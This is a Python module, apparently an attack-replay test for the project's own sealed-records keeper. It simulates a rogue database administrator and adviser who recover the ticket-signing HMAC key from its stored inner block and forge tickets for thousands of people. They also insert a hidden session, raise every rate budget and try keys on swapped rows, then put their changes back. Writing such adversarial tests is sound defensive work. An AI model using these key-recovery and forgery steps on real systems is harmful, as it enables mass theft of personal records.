"""A database administrator and one adviser together: a superuser's login, a live session, the desk's keeper secret.

They read the key that signs tickets, so that they can forge one for everybody; insert a session of their own, raise
every budget, and swap sealed rows. Only the keeper stands in their way. What they change is put back at the end.
"""

import asyncio
import contextlib
import hashlib
import hmac
import secrets
import time
from collections.abc import Awaitable, Callable, Iterator, Sequence
from typing import Any
from uuid import UUID, uuid4

import msgspec
import psycopg

from cloison.keeper.client import Keeper, TicketUse
from cloison.model import bits
from cloison.replay.attackers_desk import drain_in_parallel, drain_the_list
from cloison.replay.attackers_keeper import (
    Grant,
    SealedRow,
    StolenDesk,
    StolenSession,
    ask,
    connect,
    count,
    open_rows,
    unsealed,
)
from cloison.replay.desk_login import DeskLogin, attempt
from cloison.replay.loot import Loot

LABEL, RECORD = 16, 7  # compartments: the label; identity, contact and NIR
A_CALL = 64
REFUSED_ENOUGH = 1_024  # forged tickets in a row that gave nothing
FORGED = 10_000  # people whom tickets are forged for
SWAPPED = 200  # rows that each key is tried on
INNER, KEY_BYTES = 0x36, 32  # of HMAC (RFC 2104)

EVERYBODY = "select segment, person, cohort, key_id, version, sealed from cloison.person order by person limit %s"
VICTIM = (
    "select s.session, s.account, k.inner_block from cloison.session s cross join cloison.ticket_key k "
    "where s.segment = %s and s.token_hash = %s"
)
ANOTHER = "select account from cloison.account where account <> %s limit 1"
INSERT_SESSION = (
    "insert into cloison.session (segment, session, account, token_hash, issued_at, expires_at, seen_at, touched_at) "
    "values (%s, %s, %s, %s, now(), now() + interval '1 hour', now(), now())"
)
RAISE = "update cloison.role_budget set minutes_5 = 100000, hour = 100000, day = 100000, days_28 = 100000"
PUT_BACK = (
    "update cloison.role_budget set minutes_5 = %s, hour = %s, day = %s, days_28 = %s where role = %s and meter = %s"
)

Connection = psycopg.Connection[tuple[Any, ...]]


class Sealed(msgspec.Struct, frozen=True):
    """A row of the table of people: all that a ticket names, and what is sealed."""

    segment: str
    person: UUID
    cohort: int
    key_id: int
    version: int
    sealed: list[bytes]


class Holder(msgspec.Struct, frozen=True):
    """A session as tickets name it, with its token."""

    session: UUID
    account: UUID
    token: bytes


class Administrator(msgspec.Struct, frozen=True):
    """A superuser's connection string, and the adviser at their side, who signs in as often as is wanted."""

    conninfo: str
    sign_in: Callable[[], Awaitable[StolenSession]]


class Forger:
    """Whoever can sign tickets: asks the keeper with them."""

    def __init__(self, keeper: Keeper, ticket_key: bytes, loot: Loot) -> None:
        """Sign with `ticket_key`, ask `keeper` as the desk."""
        self.keeper = keeper
        self.loot = loot
        self._ticket_key = ticket_key

    async def forge(self, holder: Holder, people: Sequence[Sealed], compartments: int) -> list[Grant]:
        """Forge a ticket for each of `people` until the keeper refuses long enough; the keys it gave."""
        grants: list[Grant] = []
        refused = 0
        for start in range(0, len(people), A_CALL):
            uses = [self._use(holder, person, compartments) for person in people[start : start + A_CALL]]
            got = await ask(self.keeper, uses, self.loot)
            count(got, self.loot)
            grants += got
            refused = 0 if got else refused + len(uses)
            if refused >= REFUSED_ENOUGH or self.loot.over:
                break
        return grants

    def _use(self, holder: Holder, person: Sealed, compartments: int) -> tuple[SealedRow, TicketUse]:
        text = "|".join(
            map(
                str,
                (
                    *("cloison-ticket-1", uuid4(), holder.session, holder.account, person.segment, person.cohort),
                    *(person.person, person.key_id, compartments, person.version, int(time.time() * 1000)),
                ),
            )
        )
        mac = hmac.digest(self._ticket_key, text.encode(), "sha256")
        sealed = [person.sealed[bit] for bit in bits(compartments)]
        row = SealedRow(person.segment, person.person, person.version, compartments, sealed, text, mac)
        return row, TicketUse(text, mac, holder.token)


async def dba_and_adviser(administrator: Administrator, desk: StolenDesk, session: StolenSession, loot: Loot) -> None:
    """Forge, insert, raise and swap."""
    with psycopg.connect(administrator.conninfo, autocommit=True) as admin:
        people = [Sealed(*row) for row in admin.execute(EVERYBODY, (FORGED,)).fetchall()]
        adviser, ticket_key = _adviser(admin, session)
        async with await connect(desk) as keeper:
            forger = Forger(keeper, ticket_key, loot)
            grants = await forger.forge(adviser, people, LABEL)
            grants += await forger.forge(adviser, people[::-1], RECORD)  # of others first
            await forger.forge(_colleague(admin, adviser), people[:A_CALL], RECORD)
            with _inserted_session(admin, session, adviser) as inserted:
                await forger.forge(inserted, people[:A_CALL], RECORD)
            with _raised_budgets(admin):
                again, _ = _adviser(admin, await administrator.sign_in())
                grants += await forger.forge(again, people[::-1], RECORD)
                login = DeskLogin(desk, session, loot)
                for drain in (drain_the_list, drain_in_parallel):
                    await asyncio.to_thread(attempt, drain, login)
                await open_rows(keeper, session.token, login.taken(), loot)
                login.tell()
    await asyncio.to_thread(_swap, grants, people[:SWAPPED], loot)


def _adviser(admin: Connection, session: StolenSession) -> tuple[Holder, bytes]:
    """The adviser's session, and the key that signs tickets, out of HMAC's inner block."""
    row = admin.execute(VICTIM, (session.segment, hashlib.sha256(session.token).digest())).fetchone()
    assert row is not None  # noqa: S101 - the adviser signed in a moment ago
    key = bytes(byte ^ INNER for byte in row[2][:KEY_BYTES])
    return Holder(row[0], row[1], session.token), key


def _colleague(admin: Connection, adviser: Holder) -> Holder:
    """The adviser's session under a colleague's account, whose ceilings are not spent."""
    row = admin.execute(ANOTHER, (adviser.account,)).fetchone()
    return adviser if row is None else msgspec.structs.replace(adviser, account=row[0])


@contextlib.contextmanager
def _inserted_session(admin: Connection, session: StolenSession, adviser: Holder) -> Iterator[Holder]:
    """A session that only the database knows."""
    token, mine = secrets.token_bytes(32), uuid4()
    admin.execute(INSERT_SESSION, (session.segment, mine, adviser.account, hashlib.sha256(token).digest()))
    try:
        yield Holder(mine, adviser.account, token)
    finally:
        admin.execute("delete from cloison.session where session = %s", (mine,))


@contextlib.contextmanager
def _raised_budgets(admin: Connection) -> Iterator[None]:
    budgets = admin.execute("select minutes_5, hour, day, days_28, role, meter from cloison.role_budget").fetchall()
    admin.execute(RAISE)
    try:
        yield
    finally:
        with admin.cursor() as cursor:
            cursor.executemany(PUT_BACK, budgets)


def _swap(grants: Sequence[Grant], people: Sequence[Sealed], loot: Loot) -> None:
    """Keys of some on the sealed rows of others, as if rows had been swapped beneath the desk."""
    for grant in grants:
        keys = list(zip(bits(grant.row.compartments), grant.keys, strict=True))
        others = (person for person in people if person.person != grant.row.person)
        for other in others:
            row = msgspec.structs.replace(grant.row, person=other.person, segment=other.segment)
            if any(unsealed(key, other.sealed[bit], place, bit) for bit, key in keys for place in (row, grant.row)):
                loot.got([other.person])
